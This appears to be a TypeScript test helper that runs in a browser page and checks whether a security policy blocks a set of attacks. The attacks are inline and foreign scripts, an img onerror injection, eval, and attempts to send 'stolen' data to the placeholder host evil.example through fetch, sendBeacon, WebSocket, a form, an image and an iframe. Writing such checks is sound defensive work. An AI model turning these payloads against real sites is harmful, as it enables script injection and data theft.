/** What each attempt came to: the name of what it threw, or `nothing`; and which of them left a mark. */
export interface AttackReport {
  readonly outcomes: Readonly<Record<string, string>>;
  readonly hits: readonly string[];
}

/**
 * Runs in the page: what a script that got into it, or markup that was taken for text, would try. It stands alone,
 * because only its text reaches the page.
 */
export async function tryAttacks(): Promise<AttackReport> {
  const evil = 'https://evil.example';
  const marks = globalThis as unknown as { hits: string[] };
  marks.hits = [];
  // The debugger's own calls may evaluate strings; what comes after the first turn of the event loop is the page's.
  await new Promise((resolve) => setTimeout(resolve));

  const add = <K extends keyof HTMLElementTagNameMap>(name: K, change: (element: HTMLElementTagNameMap[K]) => void) => {
    const element = document.createElement(name);
    change(element);
    document.body.append(element);
    return element;
  };
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };

  const attempts: Readonly<Record<string, () => unknown>> = {
    inlineScript: () => add('script', (script) => (script.text = 'hits.push("inline")')),
    foreignScript: () => add('script', (script) => (script.src = `${evil}/x.js`)),
    markup: () => (document.body.innerHTML = '<img src=x onerror="hits.push(1)">'),
    handler: () => document.body.setAttribute('onclick', 'hits.push("handler")'),
    evaluation: () => (0, eval)('hits.push("eval")') as unknown,
    styleElement: () => document.head.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>'),
    policy: () => trustedTypes.createPolicy('mine', {}),
    worker: () => new Worker(`${evil}/worker.js`),
    fetch: () => fetch(`${evil}/?stolen`),
    beacon: () => navigator.sendBeacon(`${evil}/`, 'stolen'),
    socket: () => new WebSocket('wss://evil.example/'),
    image: () => add('img', (image) => (image.src = `${evil}/stolen.png`)).remove(),
    form: () => add('form', (form) => (form.action = `${evil}/stolen`)).submit(),
    frame: () => add('iframe', (frame) => (frame.src = `${evil}/`)).remove(),
  };
  const outcomes: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      outcomes[name] = 'nothing';
    } catch (error) {
      outcomes[name] = error instanceof Error ? error.name : 'refused';
    }
  }
  document.body.click();
  return { outcomes, hits: marks.hits };
}
